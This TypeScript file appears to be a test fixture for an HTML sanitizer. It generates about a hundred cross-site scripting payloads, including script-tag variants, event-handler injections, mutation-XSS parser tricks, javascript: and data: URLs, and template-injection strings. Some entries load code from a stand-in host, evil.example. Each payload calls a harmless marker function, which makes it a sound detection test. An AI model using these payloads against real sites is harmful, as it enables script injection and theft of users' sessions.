/** What each of them would call, with its own number. */
const RUN = 'RUN'

const templates = [
  // Scripts, whole, nested and broken.
  '<script>RUN</script>',
  '<SCRIPT>RUN</SCRIPT>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script/x>RUN</script>',
  '<script\n>RUN</script\n>',
  '"><script>RUN</script>',
  "'><script>RUN</script>",
  '</script><script>RUN</script>',
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</style><script>RUN</script>',
  '--><script>RUN</script><!--',
  ']]><script>RUN</script>',
  '<script type="module">RUN</script>',
  '<script src="//evil.example/1.js"></script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script type="importmap">{"imports":{"react":"//evil.example/2.js"}}</script>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN"/></svg>',
  '<math><script>RUN</script></math>',
  // Handlers that need nobody.
  '<img src=x onerror="RUN">',
  '<img src=x onerror=RUN>',
  '<img src=x oNeRrOr="RUN">',
  '<img/src=x/onerror="RUN">',
  '<img src=x\tonerror\t=\t"RUN">',
  '<img src="x` `<script>RUN</script>"` `onerror="RUN">',
  '<img src=x onerror="&#x52;&#x55;&#x4e;;RUN">',
  '<image src=x onerror="RUN">',
  '<img srcset="x 1x" onerror="RUN">',
  '<picture><source srcset=x><img onerror="RUN" src=x></picture>',
  '<svg onload="RUN">',
  '<svg/onload="RUN"/>',
  '<svg><animate onbegin="RUN" attributeName=x dur=1s>',
  '<svg><set onbegin="RUN" attributeName=x to=y>',
  '<svg><image href=x onerror="RUN"></svg>',
  '<body onload="RUN">',
  '<body onpageshow="RUN">',
  '<iframe onload="RUN"></iframe>',
  '<details open ontoggle="RUN">',
  '<input autofocus onfocus="RUN">',
  '<select autofocus onfocus="RUN"></select>',
  '<textarea autofocus onfocus="RUN"></textarea>',
  '<div contenteditable autofocus onfocus="RUN" tabindex=0>x</div>',
  '<video><source onerror="RUN"></video>',
  '<audio src=x onerror="RUN"></audio>',
  '<video src=x onerror="RUN" autoplay></video>',
  '<object data=x onerror="RUN"></object>',
  '<embed src=x onerror="RUN">',
  '<link rel=stylesheet href=x onerror="RUN">',
  '<style onload="RUN">x{}</style>',
  '<marquee onstart="RUN">x</marquee>',
  '<p style="animation:appear 1s" onanimationstart="RUN">x</p>',
  '<p style="transition:color 1ms" ontransitionend="RUN">x</p>',
  '<dialog open onbeforetoggle="RUN">x</dialog>',
  // Handlers of pointers, for whoever hovers.
  '<a onmouseover="RUN" href="#">x</a>',
  '<p onpointerenter="RUN">x</p>',
  '" onmouseover="RUN" x="',
  "' autofocus onfocus='RUN' x='",
  // Other ways of parsing: foreign elements and mutation.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror="RUN">',
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
  '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror="RUN"></annotation-xml></math>',
  '<svg><foreignObject><img src=x onerror="RUN"></foreignObject></svg>',
  '<svg><desc><img src=x onerror="RUN"></desc></svg>',
  '<template><img src=x onerror="RUN"></template>',
  '<template shadowrootmode="open"><img src=x onerror="RUN"></template>',
  '<table><td><script>RUN</script>',
  '<select><option><img src=x onerror="RUN"></option></select>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
  '<!--><img src=x onerror="RUN">-->',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onload="RUN"/>',
  '<![CDATA[<img src=x onerror="RUN">]]>',
  '<plaintext/onmouseover="RUN">x',
  // Documents in documents, and other addresses.
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<a href="javascript:RUN">x</a>',
  '<a href="java&#10;script:RUN">x</a>',
  '<a href="\u0001javascript:RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>">x</a>',
  '<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN></svg>#x"/></svg>',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<form action="//evil.example/3"><button formaction="javascript:RUN">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/4">',
  '<base href="//evil.example/">',
  '[x](javascript:RUN) ![x](//evil.example/5.png" onerror="RUN)',
  'javascript:RUN',
  // Style sheets, templates, names that cover others.
  '<style>@import "//evil.example/6.css";body{background:url(//evil.example/7.png)}</style>',
  '<p style="background:url(//evil.example/8.png);position:fixed;inset:0">x</p>',
  '{{constructor.constructor("RUN")()}}',
  '${RUN}',
  '<img name="__ran"><form id="location"><input name="cookie"></form>',
  // Letters that are none.
  '\uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '\\u003cimg src=x onerror=RUN\\u003e',
]

/** A hundred, each with its number behind it, by which one sees that it was shown. */
export const PAYLOADS: readonly string[] = templates.map(
  (template, at) => `${template.replaceAll(RUN, () => `window.__ran('${at}')`)} ⟦${at}⟧`,
)

/** So that one that is left open hides no other. */
const CLOSE = '--></style></noscript></template></select></table></math></svg></form>'

/** For the value at this place of so many: together they hold every payload. */
export function payloadsAt(at: number, values: number, isHtml = false): string {
  const each = Math.max(1, Math.ceil(PAYLOADS.length / Math.max(1, values)))
  const own = Array.from({ length: each }, (_, n) => PAYLOADS[(at * each + n) % PAYLOADS.length]!)
  return isHtml ? `<p>first</p>${own.join(CLOSE)}${CLOSE}<p>last</p>` : own.join(' ')
}
